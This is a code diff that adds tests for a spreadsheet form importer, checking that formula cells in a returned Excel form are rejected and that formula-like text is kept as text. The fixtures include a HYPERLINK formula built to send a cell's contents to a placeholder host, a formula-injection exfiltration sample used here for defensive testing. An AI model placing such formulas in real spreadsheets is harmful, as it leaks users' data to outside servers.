@@ -211,6 +211,55 @@ describe('cells far outside the form', () => {
   });
 });
 
+describe('formula cells in a returned form', () => {
+  /** The form with `edit` applied to its visible sheet, saved as Excel would. */
+  async function edited(edit: (ws: ExcelJS.Worksheet, row: (id: string) => number) => void): Promise<Buffer> {
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(genuine as unknown as ArrayBuffer);
+    const ws = wb.worksheets.find((w) => w.state === 'visible')!;
+    const row = (id: string) => {
+      for (let r = 1; r <= ws.rowCount; r++) if (String(ws.getCell(r, 2).value) === id) return r;
+      throw new Error(id);
+    };
+    edit(ws, row);
+    return Buffer.from(await wb.xlsx.writeBuffer());
+  }
+
+  test('a formula in Self or Notes is reported with its cell and nothing is taken', async () => {
+    let selfCell = '';
+    let notesCell = '';
+    const bytes = await edited((ws, row) => {
+      ws.getCell(row('1.1'), 4).value = 3;
+      ws.getCell(row('1.2'), 4).value = { formula: '1+3', result: 4 };
+      ws.getCell(row('1.3'), 4).value = 2;
+      ws.getCell(row('1.3'), 5).value = {
+        formula: 'HYPERLINK("http://example.invalid/?leak="&B2,"see notes")',
+        result: 'see notes',
+      };
+      selfCell = ws.getCell(row('1.2'), 4).address;
+      notesCell = ws.getCell(row('1.3'), 5).address;
+    });
+    const res = await collectForm(bytes, 'returned.xlsx', ctx);
+    expect(res.ok).toBe(false);
+    expect(res.ratings).toEqual([]);
+    expect(res.report.problems.map((p) => [p.cell, p.message])).toEqual([
+      [selfCell, `${selfCell} holds a formula; type a value`],
+      [notesCell, `${notesCell} holds a formula; type a value`],
+    ]);
+  });
+
+  test('text that only looks like a formula is a value, kept exactly', async () => {
+    const payload = '=HYPERLINK("http://example.invalid/?leak="&B2,"see notes")';
+    const bytes = await edited((ws, row) => {
+      ws.getCell(row('1.1'), 4).value = 4;
+      ws.getCell(row('1.1'), 5).value = payload; // typed with a leading apostrophe: stored as text
+    });
+    const res = await collectForm(bytes, 'returned.xlsx', ctx);
+    expect(res.report.problems).toEqual([]);
+    expect(res.ratings.find((r) => r.competencyId === '1.1')!.notes).toBe(payload);
+  });
+});
+
 describe('genuine files pass', () => {
   test('the form itself', async () => {
     await expect(checkPackage(genuine, 'form.xlsx', FORM_LIMITS)).resolves.not.toBeNull();
